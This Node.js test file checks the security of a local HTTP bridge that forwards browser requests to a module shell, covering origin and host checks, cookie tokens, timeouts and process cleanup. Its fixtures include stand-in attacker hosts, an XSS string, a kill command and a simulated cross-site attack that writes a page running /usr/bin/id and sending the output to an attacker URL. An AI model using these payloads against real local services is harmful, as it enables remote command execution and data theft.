'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const { spawnSync } = require('node:child_process');
const http = require('node:http');
const net = require('node:net');
const os = require('node:os');
const path = require('node:path');
const cookie = require('cookie');
const { bridgeUnderTest, content } = require('./bridgeUnderTest');
const { launchChromium } = require('./browser');

// A request with the bridge's cookie, as the browser sends it once the
// printed address has been opened.
async function get(bridge, page, init = {}) {
  const response = await fetch(new URL(page, bridge.url), { ...init, headers: { Cookie: bridge.cookie, ...init.headers } });
  return { status: response.status, type: response.headers.get('content-type'), text: await response.text() };
}

// A request exactly as given (fetch would set Host and Origin itself).
function send(bridge, method, page, headers) {
  return new Promise((resolve, reject) => {
    const request = http.request(new URL(page, bridge.url), { method, headers }, (response) => {
      response.resume();
      response.on('end', () => resolve({ status: response.statusCode, headers: response.headers }));
    });
    request.on('error', reject);
    request.end();
  });
}

function connect(host, port) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port });
    socket.once('connect', () => { socket.destroy(); resolve('connected'); });
    socket.once('error', (error) => resolve(error.code));
  });
}

test('the bridge', async (t) => {
  const bridge = await bridgeUnderTest();
  t.after(() => bridge.close());

  await t.test('listens on 127.0.0.1 and refuses other addresses', async () => {
    const { port } = bridge.server.address();
    assert.equal(await connect('127.0.0.1', port), 'connected');
    assert.equal(await connect('127.0.0.2', port), 'ECONNREFUSED');
  });

  await t.test('answers command pages as JSON from the module', async () => {
    const answer = await get(bridge, '/system.nsp?Command=Query');
    assert.equal(answer.status, 200);
    assert.match(answer.type, /^application\/json/);
    assert.equal(answer.text, '{"ErrorCode":0,"Platform":"Linux"}');
  });

  await t.test('answers the start page as HTML, also for the bare root', async () => {
    for (const page of ['/', '/index.nsp']) {
      const answer = await get(bridge, page);
      assert.equal(answer.status, 200);
      assert.match(answer.type, /^text\/html/);
      assert.match(answer.text, /window\.location = '\/(langsel|automate|rotate)\.htm'/);
    }
  });

  await t.test('serves content pages with their includes expanded and typed by extension', async () => {
    const page = await get(bridge, '/langsel.htm');
    assert.match(page.type, /^text\/html/);
    assert.match(page.text, /class="banner"/);
    assert.doesNotMatch(page.text, /<\?include/);
    assert.match((await get(bridge, '/style.css')).type, /^text\/css/);
    assert.match((await get(bridge, '/js/tidewell.js')).type, /^text\/javascript/);
  });

  await t.test('types a page by its name up to the first NUL, where the module\'s file name ends', async () => {
    fs.writeFileSync(path.join(bridge.content, 'upload.txt'), '<script>alert(1)</script>');
    const answer = await get(bridge, '/upload.txt%00.htm');
    assert.equal(answer.status, 200);
    assert.match(answer.type, /^text\/plain/);
    assert.equal(answer.text, '<script>alert(1)</script>');
  });

  await t.test('answers 400 for a path that is not valid percent-encoding, without asking the module', async () => {
    fs.writeFileSync(path.join(bridge.content, 'upload.txt'), 'uploaded');
    for (const page of ['/upload.txt%g0.htm', '/langsel%zz.htm', '/langsel.htm%']) {
      const answer = await get(bridge, page);
      assert.equal(answer.status, 400, page);
      assert.doesNotMatch(answer.text, /uploaded|banner/, page);
    }
  });

  await t.test('runs no page for a request another web page, site or user could send', async (t2) => {
    const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'tidewell-refused-'));
    fs.chmodSync(folder, 0o777);
    t2.after(() => fs.rmSync(folder, { recursive: true, force: true }));
    const { port } = bridge.server.address();
    const own = { Host: `127.0.0.1:${port}`, Cookie: bridge.cookie };
    const createFile = (name) => `/system.nsp?Command=CreateFile&Filename=${encodeURIComponent(path.join(folder, name))}&Contents=x`;
    const refused = [
      [421, 'GET', { ...own, Host: 'attacker.example' }],
      [421, 'GET', { ...own, Host: `attacker.example:${port}` }],
      [403, 'GET', { ...own, Origin: 'https://evil.example' }],
      [403, 'GET', { ...own, Origin: `http://127.0.0.1:${port + 1}` }],
      [403, 'GET', { ...own, 'Sec-Fetch-Site': 'cross-site' }],
      [403, 'GET', { ...own, 'Sec-Fetch-Site': 'same-site' }],
      [405, 'OPTIONS', { ...own, Origin: 'https://evil.example', 'Access-Control-Request-Method': 'GET' }],
      [405, 'HEAD', own],
      [405, 'PUT', own],
      [405, 'DELETE', own],
      [403, 'GET', { Host: own.Host }],
      [403, 'GET', { ...own, Cookie: bridge.cookie.replace(/=.*/, `=${'0'.repeat(64)}`) }],
    ];
    for (const [index, [status, method, headers]] of refused.entries()) {
      const answer = await send(bridge, method, createFile(`refused${index}`), headers);
      assert.equal(answer.status, status, `${method} ${JSON.stringify(headers)}`);
      if (status === 405) assert.equal(answer.headers.allow, 'GET, POST');
    }
    assert.equal((await send(bridge, 'GET', '/langsel.htm', { Host: own.Host })).status, 403);
    assert.deepEqual(fs.readdirSync(folder), []);

    assert.equal((await send(bridge, 'GET', createFile('own'), own)).status, 200);
    const fromItsOwnPage = { ...own, Host: `localhost:${port}`, Origin: `http://localhost:${port}`, 'Sec-Fetch-Site': 'same-origin' };
    assert.equal((await send(bridge, 'GET', createFile('ownPage'), fromItsOwnPage)).status, 200);
    assert.deepEqual(fs.readdirSync(folder).sort(), ['own', 'ownPage']);
    assert.equal(fs.readFileSync(path.join(folder, 'own'), 'latin1'), 'x');
  });

  await t.test('a visit with the printed token leaves it as a strict cookie and goes on without it', async () => {
    const token = new URL(bridge.openUrl).searchParams.get('token');
    const host = `127.0.0.1:${bridge.server.address().port}`;
    const visit = await send(bridge, 'GET', `/langsel.htm?a=1&token=${token}&b=2`, { Host: host });
    assert.equal(visit.status, 303);
    assert.equal(visit.headers.location, `http://${host}/langsel.htm?a=1&b=2`);
    assert.equal(visit.headers['set-cookie'].length, 1);
    const set = cookie.parseSetCookie(visit.headers['set-cookie'][0]);
    assert.equal(`${set.name}=${set.value}`, bridge.cookie);
    assert.deepEqual([set.sameSite, set.httpOnly, set.path], ['strict', true, '/']);
    const wrong = await send(bridge, 'GET', `/?token=${'0'.repeat(token.length)}`, { Host: host });
    assert.equal(wrong.status, 403);
    assert.equal(wrong.headers['set-cookie'], undefined);
  });

  await t.test('answers 404 for a page the module does not find', async () => {
    assert.equal((await get(bridge, '/no-such-page.htm')).status, 404);
  });

  await t.test('forwards a POST without its parameters', async () => {
    const answer = await get(bridge, '/system.nsp?Command=Query', { method: 'POST', body: 'Command=Query' });
    assert.equal(answer.status, 200);
    assert.equal(answer.text, '');
  });

  await t.test('parallel requests each get their own intact answer', async () => {
    const catalogue = ['580001', '580002', '590006', '5a0001', '5a0005', '5b0001', '5b0017', '5b0034'];
    const pages = catalogue.map((osid) => `/ostree.nsp?OSIDList=${osid}`);
    pages.push('/system.nsp?Command=Query', '/langsel.htm', '/style.css');
    const expected = [];
    for (const page of pages) expected.push((await get(bridge, page)).text);
    const rounds = await Promise.all(
      Array.from({ length: 5 }, () => Promise.all(pages.map((page) => get(bridge, page)))));
    for (const round of rounds) {
      assert.deepEqual(round.map((answer) => answer.text), expected);
    }
    for (const [index, osid] of catalogue.entries()) assert.match(expected[index], new RegExp(`osid:'${osid}'`));
  });

  await t.test('a module shell that dies answers 502 and is started again', async () => {
    const killParent = '/system.nsp?Command=Run&Executable=kill&Arguments=-9+$PPID';
    assert.equal((await get(bridge, killParent)).status, 502);
    const answer = await get(bridge, '/system.nsp?Command=Query');
    assert.equal(answer.status, 200);
    assert.equal(answer.text, '{"ErrorCode":0,"Platform":"Linux"}');
  });
});

test('a request the module does not answer in time fails alone; the queue goes on with a fresh shell', async (t) => {
  // The limit bounds a shell's start as well as its answer: it leaves a fresh
  // shell (sanitized, in an emulated guest) ample time to start and answer the
  // queued request. The stuck one would take 120 s.
  const bridge = await bridgeUnderTest({ answerTimeoutMs: 15000 });
  t.after(() => bridge.close());
  const started = Date.now();
  const stuck = get(bridge, '/system.nsp?Command=Run&Executable=sleep&Arguments=120');
  const queued = get(bridge, '/system.nsp?Command=Query');
  assert.equal((await stuck).status, 502);
  assert.ok(Date.now() - started < 60000);
  const answer = await queued;
  assert.equal(answer.status, 200);
  assert.equal(answer.text, '{"ErrorCode":0,"Platform":"Linux"}');
});

test('started as root, the bridge runs no shell unless told a user', { skip: process.getuid() !== 0 && 'not root' }, () => {
  const main = path.join(__dirname, '../main.js');
  const started = spawnSync(process.execPath, [main, '--shell', '/bin/false', '--port', '0', content], { encoding: 'utf8', timeout: 20000 });
  assert.equal(started.status, 2);
  assert.match(started.stderr, /^refusing to run the module shell as root: .*--user root.*\n$/);
  assert.equal(started.stdout, '');
});

// The processes of process group `group` running "sleep 300" (zombies, which
// have ended, not counted).
function sleepers(group) {
  const found = [];
  for (const name of fs.readdirSync('/proc').filter((entry) => /^\d+$/.test(entry))) {
    try {
      const stat = fs.readFileSync(`/proc/${name}/stat`, 'latin1');
      const [state, , processGroup] = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
      const argv = fs.readFileSync(`/proc/${name}/cmdline`, 'latin1').split('\0');
      if (Number(processGroup) === group && state !== 'Z' && argv[0].endsWith('sleep') && argv[1] === '300') {
        found.push(name);
      }
    } catch {
      // ended while being looked at
    }
  }
  return found;
}

// Polls `condition` for up to 20 seconds; its last answer.
async function until(condition) {
  for (let tries = 0; tries < 400 && !condition(); tries += 1) await new Promise((resolve) => setTimeout(resolve, 50));
  return condition();
}

// Starts "sleep 300" through "system.nsp" Run; resolves, once it runs, to the
// shell's process group, its TMPDIR and the pending answer.
async function startSleeping(bridge) {
  assert.equal((await get(bridge, '/system.nsp?Command=Query')).status, 200);
  const group = bridge.shell.child.pid;
  const environment = fs.readFileSync(`/proc/${group}/environ`, 'latin1').split('\0');
  const temporary = environment.find((entry) => entry.startsWith('TMPDIR=')).slice('TMPDIR='.length);
  const answer = get(bridge, '/system.nsp?Command=Run&Executable=/bin/sleep&Arguments=300').catch((error) => error);
  assert.ok(await until(() => sleepers(group).length > 0), 'sleep 300 runs in the shell\'s process group');
  const [sleeper] = sleepers(group);
  assert.ok(fs.readlinkSync(`/proc/${sleeper}/fd/1`).startsWith(`${temporary}/`), 'its output goes to the shell\'s TMPDIR');
  return { group, temporary, answer };
}

test('a shell killed for not answering in time takes its programs and temporary files with it', async (t) => {
  // As above, the limit leaves a fresh sanitized shell time to start.
  const bridge = await bridgeUnderTest({ answerTimeoutMs: 15000 });
  t.after(() => bridge.close());
  const { group, temporary, answer } = await startSleeping(bridge);
  assert.equal((await answer).status, 502);
  assert.ok(await until(() => sleepers(group).length === 0), 'no sleep 300 left');
  assert.ok(await until(() => !fs.existsSync(temporary)), 'TMPDIR removed');
});

test('closing the bridge ends its shell with the programs and temporary files', async (t) => {
  const bridge = await bridgeUnderTest();
  t.after(() => bridge.close()); // when the test fails before it closes
  const { group, temporary } = await startSleeping(bridge);
  await bridge.close();
  assert.ok(await until(() => sleepers(group).length === 0), 'no sleep 300 left');
  assert.ok(await until(() => !fs.existsSync(temporary)), 'TMPDIR removed');
});

// A page on another local port, in the browser that has the setup UI open:
// it asks the bridge to write a page of its own, then opens that page, whose
// script would run a program and report the result back to the attacker.
test('a page on another local port cannot drive the bridge through the browser', async (t) => {
  const bridge = await bridgeUnderTest();
  const browser = await launchChromium();
  const reports = [];
  const attacker = http.createServer((request, response) => {
    if (request.url.startsWith('/report')) reports.push(request.url);
    response.writeHead(200, { 'Content-Type': 'text/html' });
    response.end(attackPage);
  });
  t.after(async () => {
    attacker.close();
    await browser.close();
    await bridge.close();
  });
  await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  const report = `http://127.0.0.1:${attacker.address().port}/report?`;
  const script = `<script>fetch('/system.nsp?Command=Run&Executable=/usr/bin/id').then((r) => r.text())
    .then((text) => { new Image().src = '${report}' + encodeURIComponent(text); });</script>`;
  const write = new URL(`/system.nsp?Command=CreateFile&Filename=pwn.htm&Contents=${encodeURIComponent(script)}`, bridge.url);
  const pwned = new URL('/pwn.htm', bridge.url).href;
  const attackPage = `<img src="${write}" onload="location = '${pwned}'" onerror="location = '${pwned}'">`;

  await browser.context.request.get(bridge.openUrl);
  assert.equal((await browser.context.cookies(bridge.url)).length, 1, 'the browser holds the bridge\'s cookie');
  const page = await browser.context.newPage();
  await page.goto(`http://127.0.0.1:${attacker.address().port}/`);
  await page.waitForURL(pwned);
  assert.match(await page.textContent('body'), /refused/);
  assert.equal(fs.existsSync(path.join(bridge.content, 'pwn.htm')), false);
  assert.deepEqual(reports, []);
});
